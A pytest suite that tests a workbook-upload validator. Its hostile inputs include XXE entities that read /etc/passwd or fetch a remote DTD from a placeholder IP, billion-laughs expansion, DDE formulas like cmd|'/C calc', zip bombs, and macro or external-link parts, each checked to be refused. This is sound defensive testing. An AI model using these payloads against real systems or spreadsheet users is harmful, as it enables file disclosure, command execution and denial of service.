"""Files that are no workbook, or a weapon: each refused in one sentence that says what to do (X21 to X24, P13)."""

import io
import random
import struct
import tracemalloc
import zipfile
from collections import Counter

import pytest
import xlwt

from services.member.workbooks import limits
from services.member.workbooks.child import main
from services.member.workbooks.compound_file import CompoundFile
from services.member.workbooks.guard import check
from services.member.workbooks.protocol import MESSAGE, REQUEST, Request, Task
from services.member.workbooks.refusals import (
    BY_CODE,
    WorkbookActiveContent,
    WorkbookBomb,
    WorkbookDamaged,
    WorkbookEmpty,
    WorkbookEncrypted,
    WorkbookIsCsv,
    WorkbookKindUnknown,
    WorkbookRefused,
    WorkbookStrayCell,
    WorkbookTooLarge,
    WorkbookTooManyColumns,
    WorkbookTooManyRows,
    WorkbookXmlUnsafe,
)
from tests.member.people import members
from tests.member.workbooks.books import (
    CONTENT_TYPES,
    inline_row,
    labels,
    line,
    many,
    member_book,
    packed,
    parts_of,
    raw_book,
    read,
    relationships,
    with_parts,
)

pytestmark = pytest.mark.rule("P13")

SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def good():
    return member_book(many(2))


def xls(edit=None):
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("团员团干部")
    for at, cells in enumerate([labels(), *map(line, many(2))]):
        for column, value in enumerate(cells):
            sheet.write(at, column, value or "")
    if edit:
        edit(workbook)
    target = io.BytesIO()
    workbook.save(target)
    return target.getvalue()


def with_record(content, kind, data=b""):
    """An .xls with one more record, in place of a record that means nothing to a reader (its author)."""
    at = content.index(struct.pack("<HH", 0x5C, 0x70))
    record = struct.pack("<HH", kind, len(data)) + data
    filler = struct.pack("<HH", 0x5C, 0x70 + 4 - len(record) - 4) + content[at + 8 : at + 8 + 0x70 - len(record)]
    changed = content[:at] + record + filler + content[at + 4 + 0x70 :]
    assert len(changed) == len(content)
    return changed


@pytest.mark.rule("MEM-09")
@pytest.mark.parametrize(
    ("content", "name", "refusal", "word"),
    [
        (b"", "a.xlsx", WorkbookEmpty, "空"),
        ("姓名,证件号码\n张三,1".encode(), "团员.csv", WorkbookIsCsv, ".csv"),
        ("姓名,证件号码\n张三,1".encode("gbk"), "团员.xlsx", WorkbookIsCsv, "另存为.xlsx"),
        ("姓名\t证件号码".encode("utf-16"), "团员.xls", WorkbookIsCsv, "另存为.xlsx"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 99, "团员.xlsx", WorkbookKindUnknown, "图片"),
        (b"\xff\xd8\xff\xe0" + b"\0" * 99, "团员.xls", WorkbookKindUnknown, "图片"),
        (b"%PDF-1.7" + b"\0" * 99, "团员.xlsx", WorkbookKindUnknown, "PDF"),
        (b"Rar!\x1a\x07" + b"\0" * 99, "团员.xlsx", WorkbookKindUnknown, "压缩包"),
        (b"<html><table><tr><td>x", "团员.xls", WorkbookKindUnknown, "网页"),
        (b'\xef\xbb\xbf<?xml version="1.0"?><Workbook/>', "团员.xls", WorkbookKindUnknown, "XML"),
        (b"\x00\x01\x02\x03" * 99, "团员.xlsx", WorkbookDamaged, "损坏"),
        (packed({"a.txt": "x"}), "团员.xlsx", WorkbookKindUnknown, "压缩包"),
        (packed({"word/document.xml": "<a/>"}), "团员.xlsx", WorkbookKindUnknown, "文字文档"),
        (packed({"ppt/presentation.xml": "<a/>"}), "团员.xlsx", WorkbookKindUnknown, "演示文稿"),
        (packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "a.xlsx", WorkbookKindUnknown, "软件"),
        (packed({"xl/workbook.bin": "x"}), "团员.xlsx", WorkbookKindUnknown, ".xlsb"),
    ],
)
def test_what_is_no_workbook_is_refused_by_what_it_is(content, name, refusal, word):
    with pytest.raises(refusal) as refused:
        check(content, name)
    assert word in refused.value.sentence()


@pytest.mark.rule("MEM-09")
@pytest.mark.parametrize("suffix", [".xlsm", ".xlsb", ".ods", ".et", ".zip", ""])
def test_only_xlsx_and_xls_are_taken_others_are_refused_by_name(good, suffix):
    with pytest.raises(WorkbookKindUnknown):
        check(good, f"团员{suffix}")


def test_every_refusal_of_a_file_is_one_sentence_that_says_what_to_do():
    for refusal in BY_CODE.values():
        sentence = refusal.zh
        assert "请" in sentence
        assert sentence.count("。") <= 1
        assert refusal.way_out == ""


@pytest.mark.rule("X21")
def test_a_file_over_five_mebibytes_is_refused_unopened(good):
    assert check(good + b"", "a.xlsx")
    with pytest.raises(WorkbookTooLarge):
        check(good + b"\0" * limits.FILE_BYTES, "a.xlsx")


@pytest.mark.rule("X21")
@pytest.mark.parametrize("keep", [0.02, 0.3, 0.6, 0.9, 0.99])
def test_a_truncated_file_is_refused(good, keep):
    with pytest.raises(WorkbookDamaged):
        check(good[: int(len(good) * keep)], "a.xlsx")
    if keep < 0.99:
        # the very last bytes of this container may be mere filling
        with pytest.raises(WorkbookRefused):
            check(xls()[: int(len(xls()) * keep)], "a.xls")


@pytest.mark.rule("X21")
def test_a_bomb_costs_no_more_than_its_limit():
    """Nothing but blanks, packed to a thousandth: reading stops at the limit."""
    bomb = raw_book("<row r='1'>" + " " * (60 * limits.MIB) + "</row>")
    assert len(bomb) < limits.MIB
    tracemalloc.start()
    with pytest.raises(WorkbookBomb):
        check(bomb, "a.xlsx")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 2 * limits.UNPACKED_BYTES


@pytest.mark.rule("X21")
def test_a_header_that_lies_about_the_size_is_not_believed(good):
    """The directory claims a hundred bytes for a part of forty mebibytes."""
    parts = parts_of(good) | {SHEET: b"<a>" + b" " * (40 * limits.MIB) + b"</a>"}
    content = bytearray(packed(parts))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        real = struct.pack("<I", archive.getinfo(SHEET).file_size)
    at = content.find(real)
    while at >= 0:
        content[at : at + 4] = struct.pack("<I", 100)
        at = content.find(real)
    with pytest.raises(WorkbookRefused):
        check(bytes(content), "a.xlsx")


@pytest.mark.rule("X21")
def test_too_many_entries_nested_archives_and_two_of_one_name_are_refused(good):
    with pytest.raises(WorkbookBomb):
        check(with_parts(good, parts={f"xl/media/{at}.png": b"x" for at in range(200)}), "a.xlsx")
    for nested in (packed({"a": "b"}), b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08"):
        with pytest.raises(WorkbookBomb):
            check(with_parts(good, parts={"xl/media/image1.png": nested}), "a.xlsx")
    target = io.BytesIO(good)
    with zipfile.ZipFile(target, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(SHEET, "<worksheet/>")
    with pytest.raises(WorkbookDamaged):
        check(target.getvalue(), "a.xlsx")


@pytest.mark.rule("X21")
def test_an_unknown_compression_and_an_encrypted_entry_are_refused(good):
    with pytest.raises(WorkbookDamaged):
        check(packed(parts_of(good), zipfile.ZIP_LZMA), "a.xlsx")
    flagged = bytearray(good)
    at = flagged.index(b"PK\x01\x02")
    flagged[at + 8] |= 1
    with pytest.raises(WorkbookEncrypted):
        check(bytes(flagged), "a.xlsx")


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>',
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>',
    '<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd"><worksheet/>',
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><worksheet/>',
)


@pytest.mark.rule("X22")
@pytest.mark.parametrize("xml", ENTITIES)
@pytest.mark.parametrize(
    "part",
    [
        SHEET,
        "xl/workbook.xml",
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "_rels/.rels",
        "[Content_Types].xml",
        "docProps/app.xml",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_no_part_may_declare_entities_whatever_its_encoding(good, xml, part, encoding):
    with pytest.raises(WorkbookXmlUnsafe):
        check(with_parts(good, parts={part: xml.encode(encoding)}), "a.xlsx")


@pytest.mark.rule("X22")
@pytest.mark.parametrize("part", [SHEET, "xl/sharedStrings.xml", "xl/theme/theme1.xml"])
def test_deep_nesting_is_refused(good, part):
    deep = "<a>" * 100_000 + "</a>" * 100_000
    with pytest.raises(WorkbookRefused):
        check(with_parts(good, parts={part: deep}), "a.xlsx")
    with pytest.raises(WorkbookBomb):
        check(with_parts(good, parts={part: "<a>" * 101 + "</a>" * 101}), "a.xlsx")


@pytest.mark.rule("X22")
@pytest.mark.parametrize(
    "xml", ["<worksheet>", "no xml", "", "<a></b>", "<a>\x00</a>", '<?xml version="1.0" encoding="x-evil"?><a/>']
)
def test_broken_xml_is_a_damaged_file(good, xml):
    with pytest.raises(WorkbookDamaged):
        check(with_parts(good, parts={SHEET: xml}), "a.xlsx")


@pytest.mark.rule("X23")
def test_a_declared_range_is_not_believed():
    header = inline_row(1, labels()) + inline_row(2, ["" if v is None else v for v in line(many(1)[0])])
    content = raw_book(header).replace(b"x", b"x")
    parts = parts_of(content)
    parts[SHEET] = parts[SHEET].replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    assert read(packed(parts))[2].rows == 1


@pytest.mark.rule("X23")
@pytest.mark.parametrize(
    ("reference", "refusal"),
    [("A1048576", WorkbookStrayCell), ("V900000", WorkbookStrayCell), ("XFD2", WorkbookTooManyColumns)],
)
def test_a_lone_cell_far_away_costs_nothing_and_is_named(reference, refusal):
    row = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    rows = inline_row(1, labels()) + f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>x</t></is></c></row>'
    content = raw_book(rows)
    tracemalloc.start()
    with pytest.raises(refusal) as refused:
        read(content)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 50 * limits.MIB
    if refusal is WorkbookStrayCell:
        assert row in refused.value.sentence()


@pytest.mark.rule("X23")
def test_endless_rows_are_refused_before_they_are_laid_out():
    rows = "".join(f'<row r="{at}"><c r="A{at}"><v>1</v></c></row>' for at in range(2, limits.ROWS_WITH_CELLS + 10))
    with pytest.raises(WorkbookTooManyRows):
        check(raw_book(inline_row(1, labels()) + rows), "a.xlsx")


@pytest.mark.rule("X23")
@pytest.mark.parametrize(
    "reference", ["ZZZZZ1", "A-1", "1", "", "A99999999999999999999", "A0", "A1048577", "XFE1", "a1"]
)
def test_an_impossible_cell_reference_is_no_crash(reference):
    content = raw_book(f'<row r="1"><c r="{reference}"><v>1</v></c></row>')
    with pytest.raises(WorkbookRefused):
        read(content)


@pytest.mark.rule("X24")
@pytest.mark.parametrize(
    ("part", "word"),
    [
        ("xl/vbaProject.bin", "宏"),
        ("XL/VBAPROJECT.BIN", "宏"),
        ("xl/macrosheets/sheet1.xml", "宏"),
        ("xl/activeX/activeX1.bin", "ActiveX"),
        ("xl/embeddings/oleObject1.bin", "嵌入"),
        ("xl\\embeddings\\oleObject1.bin", "嵌入"),
        ("xl/externalLinks/externalLink1.xml", "外部链接"),
        ("xl/connections.xml", "数据连接"),
        ("xl/queryTables/queryTable1.xml", "数据连接"),
    ],
)
def test_active_parts_are_refused_and_named(good, part, word):
    with pytest.raises(WorkbookActiveContent) as refused:
        check(with_parts(good, parts={part: b"<x/>"}), "a.xlsx")
    assert word in refused.value.sentence()


@pytest.mark.rule("X24")
def test_macros_declared_under_another_name_are_refused(good):
    for kind in ("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject"):
        types = CONTENT_TYPES.replace("application/xml", kind)
        with pytest.raises(WorkbookActiveContent):
            check(with_parts(good, parts={"[Content_Types].xml": types}), "a.xlsx")


@pytest.mark.rule("X24")
def test_targets_outside_the_file_are_refused_but_web_links_are_not(good):
    outside = ' TargetMode="External"'
    link = relationships(("rId9", "hyperlink", "https://example.cn", outside))
    assert check(with_parts(good, parts={"xl/worksheets/_rels/sheet1.xml.rels": link}), "a.xlsx")
    for kind in ("externalLinkPath", "oleObject", "image", "attachedTemplate"):
        evil = relationships(("rId9", kind, "file:///192.0.2.1/share/x", outside))
        with pytest.raises(WorkbookActiveContent):
            check(with_parts(good, parts={"xl/worksheets/_rels/sheet1.xml.rels": evil}), "a.xlsx")


@pytest.mark.rule("X24")
@pytest.mark.parametrize("formula", ["cmd|'/C calc'!A0", "=cmd|'/C calc'!A0", " +DDE | x", "MSEXCEL|'x'!A"])
def test_a_formula_that_calls_another_program_is_refused(formula):
    with pytest.raises(WorkbookActiveContent):
        check(raw_book(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'), "a.xlsx")


@pytest.mark.rule("X24")
def test_an_xls_is_looked_through_as_well():
    plain = xls()
    assert check(plain, "a.xls")
    cases = [
        (with_record(plain, 0x2F, b"\1\0"), WorkbookEncrypted, "密码"),
        (with_record(plain, 0x1AE, b"\1\0\5\0\0evil"), WorkbookActiveContent, "外部链接"),
        (with_record(plain, 0x876, b"\0\0"), WorkbookActiveContent, "数据连接"),
        (plain.replace("Workbook".encode("utf-16-le"), "WordDocu".encode("utf-16-le")), WorkbookKindUnknown, "软件"),
    ]
    for content, refusal, word in cases:
        with pytest.raises(refusal) as refused:
            check(content, "a.xls")
        assert word in refused.value.sentence()
    sheet = bytearray(plain)
    at = sheet.index(struct.pack("<H", 0x85))
    sheet[at + 9] = 1
    with pytest.raises(WorkbookActiveContent):
        check(bytes(sheet), "a.xls")


def compound(*names):
    """A compound file that holds empty streams of these names, and nothing to read in them."""

    def entry(name, kind, start=0xFFFFFFFE):
        raw = name.encode("utf-16-le")
        head = raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw) + 2, kind, 1) + b"\xff" * 12
        return head.ljust(116, b"\0") + struct.pack("<IQ", start, 0)

    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header = header.ljust(44, b"\0") + struct.pack("<IIIIIIII", 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *[0xFFFFFFFF] * 126)
    directory = entry("Root Entry", 5) + b"".join(entry(name, 2) for name in names)
    return header + fat + directory.ljust(512, b"\0")


@pytest.mark.rule("MEM-09", "X24")
@pytest.mark.parametrize(
    ("name", "refusal"),
    [
        ("EncryptedPackage", WorkbookEncrypted),
        ("_VBA_PROJECT_CUR", WorkbookActiveContent),
        ("MBD0001ABCD", WorkbookActiveContent),
        ("WordDocument", WorkbookKindUnknown),
    ],
)
def test_a_compound_file_is_known_by_what_it_holds(name, refusal):
    content = compound(name)
    assert name.lower() in CompoundFile(content).names()
    for file_name in ("a.xlsx", "a.xls"):
        with pytest.raises(refusal):
            check(content, file_name)


@pytest.mark.rule("X21")
def test_circles_in_a_compound_file_end():
    circle = bytearray(compound("Workbook"))
    struct.pack_into("<I", circle, 512 + 4, 1)
    with pytest.raises(WorkbookDamaged):
        check(bytes(circle), "a.xls")


def mutated(content, count, seed):
    """`count` copies with one to eight bytes changed."""
    chance = random.Random(seed)
    for _ in range(count):
        copy = bytearray(content)
        for _ in range(chance.randint(1, 8)):
            copy[chance.randrange(len(copy))] = chance.randrange(256)
        yield bytes(copy)


def mutated_files():
    yield from mutated(member_book(many(3)), 150, 1)
    yield from mutated(xls(), 150, 2)
    # inside the archive, where no checksum helps
    parts = parts_of(member_book(many(3)))
    for part in (SHEET, "xl/workbook.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"):
        for data in mutated(parts[part], 60, 3):
            yield packed(parts | {part: data}, zipfile.ZIP_STORED)


def answer_of_child(content):
    """The last message of the child's own main, run here: no process, no limits, so that many files take seconds."""
    request = REQUEST.dump_json(Request(Task.JUDGE, "a.xlsx", members(), {}))
    target = io.BytesIO()
    main(io.BytesIO(f"{len(request):08}".encode() + request + content), target)
    return MESSAGE.validate_json(target.getvalue().splitlines()[-1])


@pytest.mark.rule("X25")
def test_mutated_files_are_read_or_refused_and_nothing_else(capfd):
    """Every mutation ends in verdicts or in a refusal of ours, panics of the reading library included."""
    ends = Counter()
    for content in mutated_files():
        last = answer_of_child(content)
        ends["read" if last.tail else last.refused.code] += 1
    assert ends["read"] > 10
    assert ends["workbook_damaged"] > 10
    assert set(ends) <= {"read", *BY_CODE}
    assert "workbook_unreadable" not in ends
